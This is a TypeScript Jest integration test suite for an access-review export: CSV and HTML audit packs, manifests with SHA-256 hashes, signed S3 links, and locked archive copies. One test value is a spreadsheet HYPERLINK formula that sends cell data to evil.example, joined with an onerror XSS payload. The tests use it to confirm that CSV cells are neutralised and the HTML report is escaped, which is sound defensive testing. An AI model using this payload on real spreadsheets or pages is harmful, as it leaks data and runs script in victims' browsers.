import { DeleteObjectCommand, GetObjectCommand, ListObjectVersionsCommand } from '@aws-sdk/client-s3'
import { beforeAll, describe, expect, it } from '@jest/globals'
import * as z from 'zod/mini'
import { sha256 } from '../../lambdas/domain/digest.ts'
import { periodNamed, quarterOf } from '../../lambdas/domain/period.ts'
import { $Problem } from '../support/api-answers.ts'
import { approve } from '../support/approval-link.ts'
import { admin, allRows, as, ask, house, jsonOf, requestOf, untilStatus } from '../support/the-house.ts'
import { until } from '../support/until.ts'

const TIMEZONE = 'Europe/Berlin'
const FILES = ['inventory.csv', 'sessions.csv', 'findings.csv', 'review.json', 'report.html', 'manifest.json']
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"<img src=x onerror=alert(1)>")'

const $Manifest = z.object({
  period: z.string(),
  version: z.number(),
  files: z.array(z.object({ name: z.string(), bytes: z.number(), sha256: z.string(), rows: z.optional(z.number()) })),
  counts: z.object({
    requests: z.number(),
    byStatus: z.record(z.string(), z.number()),
    events: z.number(),
    grants: z.number(),
  }),
  chain: z.string(),
  lingering: z.number(),
})
const $Review = z.object({ status: z.string(), version: z.number(), manifest: z.optional($Manifest) })
type Manifest = z.output<typeof $Manifest>

/** The figures a pack must have, counted in the table itself: requests asked in the quarter, their events, their grants. */
async function countsOfTheLedger(period: string): Promise<Manifest['counts']> {
  const { from, to } = periodNamed(period, TIMEZONE) ?? { from: new Date(NaN), to: new Date(NaN) }
  const rows = await allRows()
  const requests = rows.filter(({ kind, askedAt }) => {
    const asked = new Date(`${askedAt}`)
    return kind === 'request' && asked >= from && asked < to
  })
  const ids = new Set(requests.map(({ id }) => id))
  const byStatus: Record<string, number> = {}
  for (const { status } of requests) byStatus[`${status}`] = (byStatus[`${status}`] ?? 0) + 1
  return {
    requests: requests.length,
    byStatus,
    events: rows.filter(({ kind, requestId }) => kind === 'event' && ids.has(requestId)).length,
    grants: requests.filter(({ grant }) => grant !== undefined).length,
  }
}

/** Opens the review and waits for its pack. */
async function producedReview(period: string): Promise<Manifest> {
  const opened = await as('erin').call('POST', '/reviews')
  expect(opened.status).toBe(202)
  const { version } = z.object({ version: z.number() }).parse(jsonOf(opened))
  return until(`version ${version} of the review of ${period}`, 60, async () => {
    const review = $Review.parse(jsonOf(await as('erin').call('GET', `/reviews/${period}`)))
    if (review.status === 'FAILED') throw new Error(`the review of ${period} failed`)
    return review.status === 'READY' && review.version === version ? review.manifest : undefined
  })
}

/** The cells of a CSV by RFC 4180, its byte order mark gone. */
function cellsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain = '', end] of text
    .replace(/^\uFEFF/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
  }
  return rows.filter(row => row.length > 1)
}

describe('the review of the current quarter', () => {
  const period = quarterOf(new Date(), TIMEZONE)
  const bytes = new Map<string, Buffer>()
  const redirects = new Map<string, { status: number; location: string }>()
  let ledger: Manifest['counts']
  let manifest: Manifest
  let formulaId: string
  let sessionId: string

  beforeAll(async () => {
    formulaId = await ask('alice', { entitlement: 'sandbox-admin', duration: 'PT1H', reason: FORMULA })
    sessionId = await ask('alice', { entitlement: 'sandbox-admin', duration: 'PT5S', reason: 'a night shift' })
    await approve(sessionId, 'dana')
    await untilStatus(sessionId, 'ENDED', 60)
    await as('alice').call('POST', `/requests/${formulaId}/cancel`)
    // What other tests left waiting may move while the pack is made; then it is made again.
    manifest = await until('a pack of a ledger that stood still', 120, async () => {
      ledger = await countsOfTheLedger(period)
      const made = await producedReview(period)
      return JSON.stringify(await countsOfTheLedger(period)) === JSON.stringify(ledger) ? made : undefined
    })
    for (const name of FILES) {
      const answer = await as('erin').call('GET', `/reviews/${period}/files/${name}`)
      const location = answer.headers.get('location') ?? ''
      redirects.set(name, { status: answer.status, location })
      bytes.set(name, Buffer.from(await (await fetch(location)).arrayBuffer()))
    }
  }, 240_000)

  const textOf = (name: string) => bytes.get(name)?.toString('utf8') ?? ''

  it('REV-16 holds inventory, sessions, figures, report and manifest, and lists every file but itself', () => {
    expect(manifest.files.map(({ name }) => name).sort()).toEqual(FILES.filter(name => name !== 'manifest.json').sort())
    expect($Manifest.parse(JSON.parse(textOf('manifest.json')))).toEqual(manifest)
    expect(textOf('report.html')).toMatch(/^<!doctype html>/i)
    expect(JSON.parse(textOf('review.json'))).toMatchObject({ period, version: manifest.version })
  })

  it('REV-16 says of each file the SHA-256 and the size it has when downloaded', () => {
    for (const { name, sha256: claimed, bytes: size } of manifest.files) {
      const content = bytes.get(name) ?? Buffer.alloc(0)
      expect([name, sha256(content), content.length]).toEqual([name, claimed, size])
    }
  })

  it('REV-16 counts the requests, events and grants the ledger holds, by status', () => {
    expect(ledger.requests).toBeGreaterThanOrEqual(2)
    expect(manifest.counts).toEqual(ledger)
    expect([manifest.chain, manifest.lingering]).toEqual(['intact', 0])
  })

  it('REV-03 has a row for each request, and in it who, what, why, by whom, from when to when, and how it ended', async () => {
    const [heading = [], ...rows] = cellsOf(textOf('sessions.csv'))
    const claimed = manifest.files.find(({ name }) => name === 'sessions.csv')?.rows
    const row = rows.find(([id]) => id === sessionId) ?? []
    const cell = (column: string) => row[heading.indexOf(column)]
    const { grant, receipt } = await requestOf(sessionId)

    expect([rows.length, claimed]).toEqual([ledger.requests, ledger.requests])
    expect(rows.every(cells => cells.length === heading.length)).toBe(true)
    expect(['requester', 'entitlement', 'reason', 'approvers', 'status', 'cause'].map(cell)).toEqual([
      'alice',
      'sandbox-admin',
      'a night shift',
      'dana',
      'ENDED',
      'expired',
    ])
    expect(new Date(cell('planned_end') ?? '')).toEqual(grant?.notAfter)
    expect(new Date(cell('verified_at') ?? '')).toEqual(receipt?.verifiedAt)
  })

  it('REV-16 no cell begins as a formula, and the reason that tried is there with an apostrophe before it', () => {
    const cells = [...cellsOf(textOf('sessions.csv')), ...cellsOf(textOf('inventory.csv'))].flat()

    expect(cells.filter(cell => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(cells).toContain(`'${FORMULA}`)
  })

  it('REV-16 the report shows no markup of a person and loads nothing from elsewhere', () => {
    const report = textOf('report.html')

    expect(report).toContain('&lt;img src=x onerror=alert(1)&gt;')
    expect(report).not.toMatch(
      /<(?:script|link|img|iframe|object)\b|<[a-z][^>]*\son\w+\s*=|<[a-z][^>]*(?:src|href)=["']https?:/i,
    )
  })

  it('REV-02 the inventory names each rule of each entitlement with the people behind it', () => {
    const [heading = [], ...rows] = cellsOf(textOf('inventory.csv'))
    const people = rows.find(row => row.includes('contractors see no customer data'))?.[heading.indexOf('people')]

    expect(new Set(rows.map(([entitlement]) => entitlement))).toContain('table-repair')
    expect(people).toBe('victor')
  })

  it('REV-16 a file is reached by a redirect to a link of its own, and by nothing else', async () => {
    for (const [name, { status, location }] of redirects) {
      expect([name, status]).toEqual([name, 302])
      expect(location).toContain('X-Amz-Signature=')
      expect(location).not.toMatch(/test%2F|secret/i)
      const bare = await fetch(location.split('?')[0] ?? '')
      expect([name, bare.status]).toEqual([name, 403])
    }
    expect((await fetch(`${house.apiUrl}/reviews/${period}/files/manifest.json`)).status).toBe(403)
  })

  it('REV-16 the locked copy of the manifest cannot be deleted, by the administrator either, nor written over', async () => {
    const copy = { Bucket: house.archiveBucket, Key: `reviews/${period}/${manifest.version}/manifest.json` }
    const { Versions = [] } = await admin.s3.send(new ListObjectVersionsCommand({ ...copy, Prefix: copy.Key }))
    const VersionId = Versions[0]?.VersionId

    expect(VersionId).toMatch(/\S/)
    for (const BypassGovernanceRetention of [false, true]) {
      const deletion = new DeleteObjectCommand({ ...copy, VersionId, BypassGovernanceRetention })
      await expect(admin.s3.send(deletion)).rejects.toMatchObject({ name: 'AccessDenied' })
    }
    const { Body } = await admin.s3.send(new GetObjectCommand({ ...copy, VersionId }))
    expect(await Body?.transformToString()).toBe(textOf('manifest.json'))
  })

  it('REV-01 a second review of the period is the next version, and the first stays as it was', async () => {
    const next = await producedReview(period)
    const former = await as('erin').call('GET', `/reviews/${period}/files/manifest.json?version=${manifest.version}`)

    expect(next.version).toBe(manifest.version + 1)
    const kept = await fetch(former.headers.get('location') ?? '')
    expect(await kept.text()).toBe(textOf('manifest.json'))
  })
})

describe('a review', () => {
  it.each([
    ['POST', '/reviews'],
    ['GET', '/reviews'],
    ['GET', `/reviews/${quarterOf(new Date(), TIMEZONE)}`],
    ['GET', `/reviews/${quarterOf(new Date(), TIMEZONE)}/files/sessions.csv`],
  ])('REV-01 is not for somebody who is no auditor: %s %s is 403 and opens nothing', async (method, path) => {
    const before = (await allRows()).filter(({ kind }) => kind === 'review')

    for (const person of ['alice', 'carol', 'victor']) {
      const answer = await as(person).call(method, path)
      expect([answer.status, $Problem.parse(jsonOf(answer)).code]).toEqual([403, 'not-an-auditor'])
    }

    expect((await allRows()).filter(({ kind }) => kind === 'review')).toEqual(before)
  })

  it.each([
    ['a quarter that has not begun', { period: '2099-Q1' }, 422, 'period-not-begun'],
    ['a quarter the calendar has not', { period: '2026-Q5' }, 400, 'invalid-body'],
    ['days the calendar has not', { period: '2026-02-30..2026-03-01' }, 400, 'unknown-period'],
  ])('REV-01 of %s is refused', async (_, body, status, code) => {
    const answer = await as('erin').call('POST', '/reviews', body)

    expect([answer.status, $Problem.parse(jsonOf(answer)).code]).toEqual([status, code])
  })
})
